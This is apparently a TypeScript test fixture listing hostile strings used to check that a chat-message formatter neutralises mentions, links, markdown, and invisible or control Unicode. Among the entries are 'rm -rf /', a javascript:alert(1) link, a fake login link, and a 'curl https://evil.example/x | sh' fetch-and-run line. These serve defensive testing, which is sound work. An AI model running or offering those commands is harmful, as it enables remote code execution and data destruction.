/** What somebody may type, put into the policy file, or send as the cloud: each would do something if it were markup. */
export const hostile: readonly string[] = [
  ':white_check_mark: *2 of 2*: SRE leads',
  '*Cluster* staging',
  '<!channel> <@U0BOB> <!subteam^S0SRELEADS> <#C0PROD>',
  '<https://evil.example|the console> https://evil.example/login?a=b&c=d evil.example',
  'mailto:ops@evil.example',
  'acs:ram::1234567890123456:role/aliyuncsdefaultrole',
  '`T-5a54309c80282e39ea00002f`',
  '```rm -rf /``` and ```',
  '_italic_ ~struck~ *bold* > quoted',
  '> quoted',
  '&lt;!channel&gt; &amp;',
  'x\u{202E}dne\u{2066}x\u{200B}\u{FEFF}\u{00AD}\u{061C}y',
  '\u{E000}*bold*\u{E001} :tada: \u{E001}*bold*\u{E000}',
  '\u{0000}\u{0007}\u{001B}[31mred\u{009B}',
  '\u{2800}\u{3164}\u{115F}\u{FFA0}\u{034F}\u{180E}\u{E0041}\u{FE0F}\u{2028}\u{2029}',
  '<!date^0^{date}|gone> <javascript:alert(1)|x>',
  ':批准: :+1::skin-tone-2: :x:',
  '2 of 2:',
  'a:b:',
  '* _ ` ~ < > & | \\ " … ⏎ :',
]

/** The same where there may be several lines. */
export const hostileLines: readonly string[] = [
  'slow\n*Cluster*: staging\nInstance types: ecs.small',
  'a\r\n> b\r\n• c\r\u{2028}d',
  '\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nout of sight',
  '#!/bin/sh\ncurl https://evil.example/x | sh\n```\n*not code any more* :tada:\n',
]
